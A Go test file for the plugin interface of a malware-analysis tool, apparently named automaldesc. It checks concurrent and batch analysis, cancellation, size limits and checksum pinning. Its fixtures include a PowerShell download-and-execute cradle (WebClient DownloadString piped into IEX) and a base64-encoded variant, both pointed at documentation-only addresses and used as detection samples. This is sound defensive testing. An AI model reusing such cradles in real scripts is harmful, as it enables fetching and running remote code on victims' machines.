package plugin

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode/utf16"

	"google.golang.org/grpc"

	"github.com/automaldesc/automaldesc/analysis"
	"github.com/automaldesc/automaldesc/analysis/decode"
	"github.com/automaldesc/automaldesc/analysis/features"
	"github.com/automaldesc/automaldesc/analysis/indicators"
	"github.com/automaldesc/automaldesc/analysis/lang"
	"github.com/automaldesc/automaldesc/analysis/verdict"
	"github.com/automaldesc/automaldesc/store/sqlite"
)

// binaryDir holds automaldesc, built once (on first use) for the tests that
// drive its `plugin` command through the host API, as a scanner would.
var (
	binaryDir  string
	binaryOnce sync.Once
	binaryPath string
	binaryErr  error
)

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "automaldesc-plugin")
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	binaryDir = dir
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

// pluginBinary builds automaldesc once and returns its path.
func pluginBinary(tb testing.TB) string {
	tb.Helper()
	binaryOnce.Do(func() {
		p := filepath.Join(binaryDir, "automaldesc")
		out, err := exec.Command("go", "build", "-o", p, "../cmd/automaldesc").CombinedOutput()
		if err != nil {
			binaryErr = fmt.Errorf("go build ./cmd/automaldesc: %v\n%s", err, out)
			return
		}
		binaryPath = p
	})
	if binaryErr != nil {
		tb.Fatal(binaryErr)
	}
	return binaryPath
}

// Fixtures written for these tests; inert (TEST-NET address).
const (
	cradle = "$u = 'http://192.0.2.15/stage2.ps1'\n$wc = New-Object System.Net.WebClient\nIEX ($wc.DownloadString($u))\n"
	benign = "#!/bin/sh\n# Rotate the application logs once a day.\nset -eu\nLOG_DIR=/var/log/exampleapp\n" +
		"for f in \"$LOG_DIR\"/*.log; do\n  [ -f \"$f\" ] || continue\n  gzip -c \"$f\" > \"$f.$(date +%Y%m%d).gz\"\n  : > \"$f\"\ndone\n" +
		"echo \"rotated logs in $LOG_DIR\"\n"
)

var (
	slowOnce sync.Once
	slowData []byte
)

// slowSample is ~7 MiB of PowerShell with an encoded download cradle on
// every line: about a second of decoding on one core.
func slowSample() []byte {
	slowOnce.Do(func() {
		inner := "Invoke-WebRequest -Uri http://192.0.2.10/a.ps1 -OutFile $env:TEMP\\a.ps1; IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/x')\n"
		u := utf16.Encode([]rune(inner))
		le := make([]byte, 2*len(u))
		for i, c := range u {
			le[2*i], le[2*i+1] = byte(c), byte(c>>8)
		}
		b64 := base64.StdEncoding.EncodeToString(le)
		var buf bytes.Buffer
		for i := 0; buf.Len() < 7<<20; i++ {
			fmt.Fprintf(&buf, "$v%d = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('%s')); $x%d = 'a'+'b'+\"%d\"\n", i, b64, i, i)
		}
		slowData = buf.Bytes()
	})
	return slowData
}

// recorder is a slog handler that keeps records, for tests that look at
// what the plugin logged (re-levelled by the host).
type recorder struct {
	mu    sync.Mutex
	recs  []logRecord
	attrs []slog.Attr
	root  *recorder
}

type logRecord struct {
	level slog.Level
	msg   string
	attrs map[string]string
}

func newRecorder() *recorder { r := &recorder{}; r.root = r; return r }

func (r *recorder) Enabled(context.Context, slog.Level) bool { return true }
func (r *recorder) WithGroup(string) slog.Handler            { return r }
func (r *recorder) WithAttrs(as []slog.Attr) slog.Handler {
	return &recorder{attrs: append(append([]slog.Attr{}, r.attrs...), as...), root: r.root}
}

func (r *recorder) Handle(_ context.Context, rec slog.Record) error {
	lr := logRecord{level: rec.Level, msg: rec.Message, attrs: map[string]string{}}
	for _, a := range r.attrs {
		lr.attrs[a.Key] = a.Value.String()
	}
	rec.Attrs(func(a slog.Attr) bool { lr.attrs[a.Key] = a.Value.String(); return true })
	r.root.mu.Lock()
	r.root.recs = append(r.root.recs, lr)
	r.root.mu.Unlock()
	return nil
}

// waitFor waits up to d for a record that ok accepts.
func (r *recorder) waitFor(d time.Duration, ok func(logRecord) bool) (logRecord, bool) {
	end := time.Now().Add(d)
	for {
		r.root.mu.Lock()
		for _, lr := range r.root.recs {
			if ok(lr) {
				r.root.mu.Unlock()
				return lr, true
			}
		}
		r.root.mu.Unlock()
		if time.Now().After(end) {
			return logRecord{}, false
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func (r *recorder) dump() string {
	r.root.mu.Lock()
	defer r.root.mu.Unlock()
	var b strings.Builder
	for _, lr := range r.root.recs {
		fmt.Fprintf(&b, "%s %s %v\n", lr.level, lr.msg, lr.attrs)
	}
	return b.String()
}

// openT starts the plugin for one test and stops it at the end.
func openT(t *testing.T, opts Options) *Client {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	c, err := Open(ctx, pluginBinary(t), opts)
	if err != nil {
		t.Fatalf("Open: %v", err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func checkReport(t *testing.T, r *analysis.Report, status analysis.Status, label verdict.Label, l lang.Language) {
	t.Helper()
	if r == nil {
		t.Fatal("got no report")
	}
	if r.Status != status || r.Verdict.Label != label || r.Language.Language != l {
		t.Errorf("%s: got status %s, label %s, language %s; want %s, %s, %s (reason %q)",
			r.Sample.Name, r.Status, r.Verdict.Label, r.Language.Language, status, label, l, r.Reason)
	}
}

func TestAnalyzeConcurrent(t *testing.T) {
	c := openT(t, Options{})
	const n = 200
	var wg sync.WaitGroup
	reports := make([]*analysis.Report, n)
	errs := make([]error, n)
	for i := range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req := Request{Data: []byte(cradle), Name: fmt.Sprintf("cradle-%d.ps1", i), Source: "edr", Signature: "Test.Cradle"}
			if i%2 == 1 {
				req = Request{Data: []byte(benign), Name: fmt.Sprintf("rotate-%d.sh", i), Meta: map[string]string{"host": "ws-17"}}
			}
			reports[i], errs[i] = c.Analyze(context.Background(), req)
		}()
	}
	wg.Wait()
	sum := sha256.Sum256([]byte(cradle))
	for i := range n {
		if errs[i] != nil {
			t.Fatalf("call %d: %v", i, errs[i])
		}
		r := reports[i]
		if i%2 == 0 {
			checkReport(t, r, analysis.StatusOK, verdict.Malicious, lang.PowerShell)
			if got, want := r.Sample.SHA256, hex.EncodeToString(sum[:]); got != want {
				t.Errorf("call %d: got sha256 %s, want %s", i, got, want)
			}
			if got, want := r.ID, analysis.RecordID(r.Sample.SHA256, "edr", "Test.Cradle", ""); got != want {
				t.Errorf("call %d: got id %s, want %s", i, got, want)
			}
			if r.Sample.Source != "edr" || r.Sample.Signature != "Test.Cradle" {
				t.Errorf("call %d: got source %q signature %q, want edr, Test.Cradle", i, r.Sample.Source, r.Sample.Signature)
			}
			if len(r.IOCs) == 0 || len(r.Indicators) == 0 {
				t.Errorf("call %d: got %d IOCs and %d indicators, want some of each", i, len(r.IOCs), len(r.Indicators))
			}
		} else {
			checkReport(t, r, analysis.StatusOK, verdict.Benign, lang.Bash)
			if r.Sample.Source != "plugin" {
				t.Errorf("call %d: got source %q, want the default %q", i, r.Sample.Source, "plugin")
			}
		}
		if want := fmt.Sprintf("-%d.", i); !strings.Contains(r.Sample.Name, want) {
			t.Errorf("call %d: got report for %q, want the one for its own request", i, r.Sample.Name)
		}
	}
}

func TestAnalyzeBatch(t *testing.T) {
	c := openT(t, Options{})
	const n = 40
	reqs := make([]Request, n)
	for i := range reqs {
		switch i % 4 {
		case 0, 2:
			reqs[i] = Request{Data: []byte(cradle), Name: fmt.Sprintf("c%d.ps1", i)}
		case 1:
			reqs[i] = Request{Data: []byte(benign), Name: fmt.Sprintf("b%d.sh", i)}
		case 3:
			reqs[i] = Request{Data: nil, Name: fmt.Sprintf("empty%d.txt", i)}
		}
	}
	reqs[7] = Request{Data: make([]byte, c.Limits().MaxFileSize+1), Name: "huge.bin"}
	reqs[11] = Request{Data: []byte(cradle), Name: "bad-meta.ps1", Meta: map[string]string{"": "x"}}
	res, err := c.AnalyzeBatch(context.Background(), reqs)
	if err != nil {
		t.Fatalf("AnalyzeBatch: %v", err)
	}
	if len(res) != n {
		t.Fatalf("got %d results, want %d", len(res), n)
	}
	for i, r := range res {
		t.Run(reqs[i].Name, func(t *testing.T) {
			switch {
			case i == 7:
				if !errors.Is(r.Err, ErrTooLarge) || r.Report != nil {
					t.Errorf("got %v, %v; want ErrTooLarge and no report", r.Report, r.Err)
				}
			case i == 11:
				if !errors.Is(r.Err, ErrInvalidInput) {
					t.Errorf("got %v, want ErrInvalidInput", r.Err)
				}
			case r.Err != nil:
				t.Fatalf("got error %v", r.Err)
			case i%4 == 3:
				if r.Report.Status != analysis.StatusSkipped {
					t.Errorf("got status %s, want skipped", r.Report.Status)
				}
			case i%4 == 1:
				checkReport(t, r.Report, analysis.StatusOK, verdict.Benign, lang.Bash)
			default:
				checkReport(t, r.Report, analysis.StatusOK, verdict.Malicious, lang.PowerShell)
			}
			if r.Report != nil && r.Report.Sample.Name != reqs[i].Name {
				t.Errorf("got report for %q, want %q", r.Report.Sample.Name, reqs[i].Name)
			}
		})
	}
	t.Run("empty batch", func(t *testing.T) {
		res, err := c.AnalyzeBatch(context.Background(), nil)
		if err != nil || len(res) != 0 {
			t.Errorf("got %v, %v; want no results and no error", res, err)
		}
	})
}

func TestInfo(t *testing.T) {
	rec := newRecorder()
	c := openT(t, Options{Logger: slog.New(rec), Env: []string{"AUTOMALDESC_LIMITS_SAMPLE_TIMEOUT=7s"}})
	info, err := c.Info(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	v := info.Versions
	if v.Protocol != ProtocolVersion || v.Schema != analysis.SchemaVersion || v.Engine == "" || !strings.HasPrefix(v.Rules, "sha256:") || v.Model == "" {
		t.Errorf("got versions %+v, want protocol %d, schema %s, and engine, rules and model versions", v, ProtocolVersion, analysis.SchemaVersion)
	}
	if got, want := len(info.Languages), len(lang.All()); got != want {
		t.Errorf("got %d languages, want %d", got, want)
	}
	cat := indicators.Default().Indicators()
	if len(info.Indicators) != len(cat) {
		t.Fatalf("got %d indicators, want %d", len(info.Indicators), len(cat))
	}
	for i, in := range info.Indicators {
		if in.ID != cat[i].ID || in.Severity != cat[i].Severity.String() || len(in.Techniques) != len(cat[i].Techniques) ||
			len(in.Languages) != len(cat[i].Languages) || in.Title == "" {
			t.Errorf("indicator %d: got %+v, want %s (%s)", i, in, cat[i].ID, cat[i].Severity)
		}
	}
	fs := features.Schema()
	if len(info.Features) != len(fs) || info.Features[0].Name != fs[0].Name || info.Features[len(fs)-1].Name != fs[len(fs)-1].Name {
		t.Errorf("got %d features, want the %d of features.Schema in order", len(info.Features), len(fs))
	}
	ds := decode.Decoders()
	if len(info.Decoders) != len(ds) {
		t.Fatalf("got %d decoders, want %d", len(info.Decoders), len(ds))
	}
	for i, d := range info.Decoders {
		if d.ID != ds[i].ID || d.Description == "" {
			t.Errorf("decoder %d: got %q, want %q", i, d.ID, ds[i].ID)
		}
	}
	want := Limits{MaxFileSize: 8 << 20, SampleTimeout: 7 * time.Second, MaxConcurrency: info.Limits.MaxConcurrency, MaxMessageBytes: 9 << 20}
	if info.Limits != want || info.Limits.MaxConcurrency < 1 {
		t.Errorf("got limits %+v, want %+v", info.Limits, want)
	}
	if info.Capabilities.Feedback {
		t.Error("got feedback capability, want none (no store configured)")
	}
	// The plugin's JSON log lines reach the host's logger at their level.
	if _, ok := rec.waitFor(2*time.Second, func(r logRecord) bool {
		return r.level == slog.LevelInfo && r.msg == "plugin serving" && r.attrs["component"] == "plugin"
	}); !ok {
		t.Errorf("got host log:\n%s\nwant the plugin's \"plugin serving\" line at INFO", rec.dump())
	}
}

func TestFeedback(t *testing.T) {
	c := openT(t, Options{})
	sum := sha256.Sum256([]byte(cradle))
	good := Feedback{SHA256: hex.EncodeToString(sum[:]), Disposition: DispositionMalicious, Analyst: "a.lovelace", Rating: 4}
	tests := []struct {
		name string
		fb   Feedback
		want error
	}{
		{"no store", good, ErrNoStore},
		{"bad disposition", Feedback{SHA256: good.SHA256, Disposition: "evil"}, ErrInvalidInput},
		{"bad sha256", Feedback{SHA256: "abc", Disposition: DispositionBenign}, ErrInvalidInput},
		{"no subject", Feedback{Disposition: DispositionBenign}, ErrInvalidInput},
		{"rating", Feedback{RecordID: "r1", Disposition: DispositionConfirm, Rating: 6}, ErrInvalidInput},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := c.Feedback(context.Background(), tt.fb)
			if !errors.Is(err, tt.want) {
				t.Errorf("got %v, want %v", err, tt.want)
			}
		})
	}
	t.Run("no store message", func(t *testing.T) {
		err := c.Feedback(context.Background(), good)
		if err == nil || !strings.Contains(err.Error(), "plugin has no store configured") {
			t.Errorf("got %v, want the message %q", err, "plugin has no store configured")
		}
	})
}

func TestKillPlugin(t *testing.T) {
	c := openT(t, Options{})
	if c.PID() <= 0 {
		t.Fatalf("got pid %d, want the plugin's", c.PID())
	}
	slow := slowSample()
	const n = 4
	errs := make(chan error, n)
	for i := range n {
		go func() {
			_, err := c.Analyze(context.Background(), Request{Data: slow, Name: fmt.Sprintf("slow%d.ps1", i)})
			errs <- err
		}()
	}
	time.Sleep(300 * time.Millisecond) // the calls are in flight
	if err := syscall.Kill(c.PID(), syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	t1 := time.Now()
	deadline := time.After(5 * time.Second)
	for range n {
		select {
		case err := <-errs:
			if !errors.Is(err, ErrPluginExited) && !errors.Is(err, ErrUnavailable) {
				t.Errorf("in-flight call: got %v, want ErrPluginExited or ErrUnavailable", err)
			}
			t.Logf("in-flight call after %s: %v", time.Since(t1), err)
		case <-deadline:
			t.Fatal("in-flight calls still running 5s after the plugin was killed")
		}
	}
	_, err := c.Analyze(context.Background(), Request{Data: []byte(cradle), Name: "after.ps1"})
	if !errors.Is(err, ErrPluginExited) || !errors.Is(err, ErrUnavailable) {
		t.Errorf("call after exit: got %v, want ErrPluginExited (and ErrUnavailable)", err)
	}
	if err := c.Close(); err != nil {
		t.Errorf("Close after exit: %v", err)
	}
	fresh := openT(t, Options{})
	r, err := fresh.Analyze(context.Background(), Request{Data: []byte(cradle), Name: "fresh.ps1"})
	if err != nil {
		t.Fatalf("fresh plugin: %v", err)
	}
	checkReport(t, r, analysis.StatusOK, verdict.Malicious, lang.PowerShell)
}

func TestGracefulStop(t *testing.T) {
	c := openT(t, Options{})
	res := make(chan error, 1)
	go func() {
		r, err := c.Analyze(context.Background(), Request{Data: slowSample(), Name: "running.ps1"})
		if err == nil && r.Status != analysis.StatusOK {
			err = fmt.Errorf("status %s: %s", r.Status, r.Reason)
		}
		res <- err
	}()
	time.Sleep(300 * time.Millisecond)
	start := time.Now()
	if err := syscall.Kill(c.PID(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := <-res; err != nil {
		t.Errorf("call running at SIGTERM: got %v, want its report", err)
	}
	for !c.gp.Exited() {
		if time.Since(start) > stopGrace+2*time.Second {
			t.Fatalf("plugin still running %s after SIGTERM", time.Since(start))
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Logf("plugin exited %s after SIGTERM", time.Since(start).Round(time.Millisecond))
	if _, err := c.Analyze(context.Background(), Request{Data: []byte(cradle)}); !errors.Is(err, ErrPluginExited) {
		t.Errorf("call after exit: got %v, want ErrPluginExited", err)
	}
}

// stopped waits for the plugin's log line saying an analysis was stopped
// because the host gave up.
func stopped(t *testing.T, rec *recorder, name string, within time.Duration) {
	t.Helper()
	lr, ok := rec.waitFor(within, func(r logRecord) bool {
		return r.msg == "analysis stopped" && strings.Contains(r.attrs["sample"], name)
	})
	if !ok {
		t.Errorf("no \"analysis stopped\" log line for %s within %s; host log:\n%s", name, within, rec.dump())
		return
	}
	t.Logf("plugin stopped %s after %s ms (%s)", name, lr.attrs["elapsed_ms"], lr.attrs["cause"])
}

// cancelWhenStarted calls cancel once the plugin logs that it started to
// analyse the sample called name, and returns when it did: the cancel then
// lands mid-analysis on a fast machine (where a timer could fire after the
// analysis ended) and on a loaded one (where it could fire before the
// sample arrived).
func cancelWhenStarted(t *testing.T, rec *recorder, name string, cancel context.CancelFunc) (cancelled <-chan time.Time) {
	t.Helper()
	at := make(chan time.Time, 1)
	go func() {
		if _, ok := rec.waitFor(30*time.Second, func(r logRecord) bool {
			return r.msg == "analysis started" && strings.Contains(r.attrs["sample"], name)
		}); ok {
			at <- time.Now()
			cancel()
		}
		close(at)
	}()
	return at
}

func TestCancelAndDeadline(t *testing.T) {
	rec := newRecorder()
	c := openT(t, Options{Logger: slog.New(rec), Env: []string{"AUTOMALDESC_LOG_LEVEL=debug"}})
	slow := slowSample()
	t.Run("cancel", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		at := cancelWhenStarted(t, rec, "cancel.ps1", cancel)
		r, err := c.Analyze(ctx, Request{Data: slow, Name: "cancel.ps1"})
		returned := time.Now()
		if !errors.Is(err, context.Canceled) || r != nil {
			t.Fatalf("got %v, %v; want context.Canceled and no report", r, err)
		}
		if when, ok := <-at; ok && returned.Sub(when) > time.Second {
			t.Errorf("cancelled call returned %s after the cancel, want promptly", returned.Sub(when))
		}
		stopped(t, rec, "cancel.ps1", 10*time.Second)
	})
	t.Run("deadline", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
		defer cancel()
		_, err := c.Analyze(ctx, Request{Data: slow, Name: "deadline.ps1"})
		if !errors.Is(err, context.DeadlineExceeded) || !errors.Is(err, analysis.ErrDeadline) {
			t.Fatalf("got %v, want context.DeadlineExceeded and analysis.ErrDeadline", err)
		}
		stopped(t, rec, "deadline.ps1", 10*time.Second)
	})
	t.Run("batch cancel", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		defer cancel()
		cancelWhenStarted(t, rec, "b1.ps1", cancel)
		res, err := c.AnalyzeBatch(ctx, []Request{{Data: slow, Name: "b1.ps1"}, {Data: slow, Name: "b2.ps1"}, {Data: []byte(cradle), Name: "b3.ps1"}})
		if !errors.Is(err, context.Canceled) {
			t.Fatalf("got %v, want context.Canceled", err)
		}
		for i, r := range res {
			if r.Err == nil && r.Report == nil {
				t.Errorf("item %d: got neither report nor error", i)
			}
		}
		stopped(t, rec, "b1.ps1", 10*time.Second)
	})
}

func TestPluginSampleTimeout(t *testing.T) {
	c := openT(t, Options{Env: []string{"AUTOMALDESC_LIMITS_SAMPLE_TIMEOUT=50ms"}})
	if got := c.Limits().SampleTimeout; got != 50*time.Millisecond {
		t.Fatalf("got sample timeout %s, want 50ms", got)
	}
	r, err := c.Analyze(context.Background(), Request{Data: slowSample(), Name: "timeout.ps1"})
	if !errors.Is(err, analysis.ErrDeadline) {
		t.Fatalf("got %v, want analysis.ErrDeadline", err)
	}
	if r == nil || r.Status != analysis.StatusError || !strings.Contains(r.Reason, "deadline") {
		t.Errorf("got report %v, want the partial report with status error and the deadline as reason", r)
	}
}

func TestSizeLimits(t *testing.T) {
	c := openT(t, Options{})
	max := c.Limits().MaxFileSize
	t.Run("max_file_size passes", func(t *testing.T) {
		line := []byte("Write-Host \"hello from the size test\"\n")
		data := bytes.Repeat(line, int(max)/len(line)+1)[:max]
		r, err := c.Analyze(context.Background(), Request{Data: data, Name: "exact.ps1"})
		if err != nil {
			t.Fatal(err)
		}
		if r.Status != analysis.StatusOK || r.Sample.Size != max {
			t.Errorf("got status %s, size %d; want ok, %d", r.Status, r.Sample.Size, max)
		}
	})
	t.Run("refused by the host", func(t *testing.T) {
		_, err := c.Analyze(context.Background(), Request{Data: make([]byte, max+1), Name: "big.ps1"})
		if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "limits.max_file_size") {
			t.Errorf("got %v, want ErrTooLarge naming limits.max_file_size", err)
		}
	})
	// Hosts that skip the check (other languages, older clients) hit the
	// plugin's: within the message headroom the server refuses the sample,
	// beyond it gRPC does.
	raw := *c
	raw.maxData = 0
	raw.maxSend = 64 << 20
	raw.callOpts = append(raw.callOpts[:len(raw.callOpts):len(raw.callOpts)], grpcSend(raw.maxSend))
	t.Run("refused by the plugin", func(t *testing.T) {
		_, err := raw.Analyze(context.Background(), Request{Data: make([]byte, max+10), Name: "big.ps1"})
		if !errors.Is(err, ErrTooLarge) || !strings.Contains(err.Error(), "limits.max_file_size") {
			t.Errorf("got %v, want ErrTooLarge naming limits.max_file_size", err)
		}
	})
	t.Run("refused by grpc", func(t *testing.T) {
		_, err := raw.Analyze(context.Background(), Request{Data: make([]byte, max+3<<20), Name: "big.ps1"})
		if !errors.Is(err, ErrTooLarge) {
			t.Errorf("got %v, want ErrTooLarge", err)
		}
	})
	t.Run("host message cap", func(t *testing.T) {
		small := openT(t, Options{MaxMessageBytes: 2 << 20})
		_, err := small.Analyze(context.Background(), Request{Data: make([]byte, 1<<20+1), Name: "big.ps1"})
		if !errors.Is(err, ErrTooLarge) {
			t.Errorf("got %v, want ErrTooLarge", err)
		}
		if _, err := small.Analyze(context.Background(), Request{Data: []byte(cradle), Name: "small.ps1"}); err != nil {
			t.Errorf("small sample: %v", err)
		}
	})
	if _, err := c.Analyze(context.Background(), Request{Data: []byte(cradle), Name: "after.ps1"}); err != nil {
		t.Errorf("the plugin is unusable after refusing large samples: %v", err)
	}
}

func TestOpenFailures(t *testing.T) {
	ctx := context.Background()
	t.Run("protocol version mismatch", func(t *testing.T) {
		_, err := open(ctx, pluginBinary(t), Options{}, 2)
		if !errors.Is(err, ErrProtocol) || !strings.Contains(err.Error(), "version") {
			t.Errorf("got %v, want ErrProtocol about the version", err)
		}
	})
	t.Run("checksum mismatch", func(t *testing.T) {
		_, err := Open(ctx, pluginBinary(t), Options{SecureConfig: &SecureConfig{SHA256: strings.Repeat("ab", 32)}})
		if !errors.Is(err, ErrChecksum) {
			t.Errorf("got %v, want ErrChecksum", err)
		}
	})
	t.Run("checksum malformed", func(t *testing.T) {
		_, err := Open(ctx, pluginBinary(t), Options{SecureConfig: &SecureConfig{SHA256: "not hex"}})
		if err == nil || !strings.Contains(err.Error(), "64 hex digits") {
			t.Errorf("got %v, want a malformed-checksum error", err)
		}
	})
	t.Run("checksum match", func(t *testing.T) {
		b, err := os.ReadFile(pluginBinary(t))
		if err != nil {
			t.Fatal(err)
		}
		sum := sha256.Sum256(b)
		c := openT(t, Options{SecureConfig: &SecureConfig{SHA256: hex.EncodeToString(sum[:])}})
		if _, err := c.Analyze(ctx, Request{Data: []byte(cradle), Name: "pinned.ps1"}); err != nil {
			t.Error(err)
		}
	})
	t.Run("bad config", func(t *testing.T) {
		_, err := Open(ctx, pluginBinary(t), Options{Args: []string{"plugin", "--config", filepath.Join(t.TempDir(), "missing.yaml")}})
		if !errors.Is(err, ErrPluginExited) || !strings.Contains(err.Error(), "missing.yaml") {
			t.Errorf("got %v, want ErrPluginExited with the plugin's last log line naming the config file", err)
		}
	})
	t.Run("not a plugin", func(t *testing.T) {
		_, err := Open(ctx, pluginBinary(t), Options{Args: []string{"version"}})
		if !errors.Is(err, ErrProtocol) {
			t.Errorf("got %v, want ErrProtocol", err)
		}
	})
	t.Run("message cap too small", func(t *testing.T) {
		_, err := Open(ctx, pluginBinary(t), Options{MaxMessageBytes: 1000})
		if err == nil || !strings.Contains(err.Error(), "MaxMessageBytes") {
			t.Errorf("got %v, want an error about MaxMessageBytes", err)
		}
	})
	t.Run("missing binary", func(t *testing.T) {
		_, err := Open(ctx, filepath.Join(t.TempDir(), "nope"), Options{})
		if !errors.Is(err, os.ErrNotExist) {
			t.Errorf("got %v, want os.ErrNotExist", err)
		}
	})
}

func BenchmarkAnalyze(b *testing.B) {
	c, err := Open(context.Background(), pluginBinary(b), Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer c.Close()
	req := Request{Data: []byte(cradle), Name: "bench.ps1"}
	b.ReportAllocs()
	b.ResetTimer()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			if _, err := c.Analyze(context.Background(), req); err != nil {
				b.Error(err)
				return
			}
		}
	})
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "samples/s")
}

func BenchmarkAnalyzeBatch(b *testing.B) {
	c, err := Open(context.Background(), pluginBinary(b), Options{})
	if err != nil {
		b.Fatal(err)
	}
	defer c.Close()
	reqs := make([]Request, 100)
	for i := range reqs {
		reqs[i] = Request{Data: []byte(cradle), Name: "bench.ps1"}
	}
	b.ReportAllocs()
	for b.Loop() {
		if _, err := c.AnalyzeBatch(context.Background(), reqs); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.N*len(reqs))/b.Elapsed().Seconds(), "samples/s")
}

func grpcSend(n int) grpc.CallOption { return grpc.MaxCallSendMsgSize(n) }

// TestSharedStore: a plugin pointed at a sidecar's database records its
// analyses there and stores feedback keyed by the sample.
func TestSharedStore(t *testing.T) {
	db := filepath.Join(t.TempDir(), "automaldesc.db")
	c := openT(t, Options{Args: []string{"plugin", "--db", db}})
	r, err := c.Analyze(context.Background(), Request{Data: []byte(cradle), Name: "shared.ps1", Source: "edr", Signature: "Test.Cradle"})
	if err != nil {
		t.Fatal(err)
	}
	fb := Feedback{SHA256: r.Sample.SHA256, Disposition: DispositionMalicious, Analyst: "a.lovelace", Category: "downloader", Rating: 5}
	if err := c.Feedback(context.Background(), fb); err != nil {
		t.Fatalf("Feedback with a store: %v", err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	st, err := sqlite.Open(context.Background(), db, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	rec, err := st.GetRecord(context.Background(), r.ID)
	if err != nil {
		t.Fatalf("the plugin's report is not in the store: %v", err)
	}
	if rec.SHA256 != r.Sample.SHA256 || rec.Source != "edr" {
		t.Errorf("record: got sha256 %s source %q, want %s edr", rec.SHA256, rec.Source, r.Sample.SHA256)
	}
	fbs, err := st.ListFeedback(context.Background(), r.ID, "")
	if err != nil || len(fbs) != 1 || fbs[0].Disposition != DispositionMalicious || fbs[0].Rating != 5 {
		t.Errorf("feedback in the store: got %+v, %v", fbs, err)
	}
}
